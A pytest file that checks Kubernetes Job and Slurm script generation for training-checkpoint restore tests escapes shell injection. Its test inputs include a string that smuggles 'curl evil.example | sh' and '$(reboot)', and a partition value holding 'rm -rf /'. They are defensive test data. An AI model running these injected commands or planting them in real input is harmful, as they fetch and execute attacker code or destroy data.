"""Restore tests rendered as scheduler jobs (issue 35.4): the Kubernetes Job is valid YAML whose
command reports the verdict with the test's identity, and no value escapes its quoting."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from producers.errors import ProducerError
from producers.training.restore_schedule import RestoreJob, kubernetes_job, slurm_script

HOSTILE = "j1'; curl evil.example | sh; echo '\n$(reboot)"


def test_the_kubernetes_job_runs_the_command_then_reports_with_the_tested_identity(tmp_path: Path) -> None:
    job = RestoreJob(HOSTILE, "ckpt-9", "exit 4", config_hash="cfg1", to="kafka")
    manifest = yaml.safe_load(kubernetes_job(job, image="registry/train:1", namespace="ml"))
    assert (manifest["kind"], manifest["metadata"]["namespace"]) == ("Job", "ml")
    assert manifest["spec"]["backoffLimit"] == 0
    [container] = manifest["spec"]["template"]["spec"]["containers"]
    assert container["command"][:2] == ["/bin/sh", "-c"]
    # Run the container's script under sh with a stand-in `ranksight` that records its argv: the
    # job id arrives as one argument, exactly as given, and the failed command's status is named.
    fake = tmp_path / "ranksight"
    fake.write_text(
        f"#!{sys.executable}\nimport json, sys\nopen({str(tmp_path / 'argv')!r}, 'w').write(json.dumps(sys.argv[1:]))\n"
    )
    fake.chmod(0o755)
    env = {**os.environ, "PATH": f"{tmp_path}{os.pathsep}{os.environ['PATH']}"}
    subprocess.run(container["command"], env=env, check=True, timeout=30, cwd=tmp_path)
    argv = json.loads((tmp_path / "argv").read_text())
    assert argv[argv.index("--job") + 1] == HOSTILE
    assert argv[argv.index("--config-hash") + 1] == "cfg1"
    assert "--failed" in argv and argv[-1] == "restore command exited with status 4"
    assert not list(tmp_path.glob("*evil*"))


def test_the_slurm_script_names_no_gres_without_gpus_and_quotes_the_partition() -> None:
    text = slurm_script(RestoreJob("j", "c", "true"), partition="gpu; rm -rf /", gpus=0)
    assert "--gpus" not in text and "#SBATCH --partition='gpu; rm -rf /'" in text


@pytest.mark.parametrize(
    ("kwargs", "says"),
    [
        ({"job_id": "", "checkpoint_id": "c", "command": "x"}, "needs --job"),
        ({"job_id": "j", "checkpoint_id": "c", "command": "x", "env": {"A B": "1"}}, "not valid"),
    ],
)
def test_bad_input_is_one_clear_error(kwargs: dict, says: str) -> None:
    with pytest.raises(ProducerError, match=says):
        RestoreJob(**kwargs)
    with pytest.raises(ProducerError, match="needs --image"):
        kubernetes_job(RestoreJob("j", "c", "x"), image="")
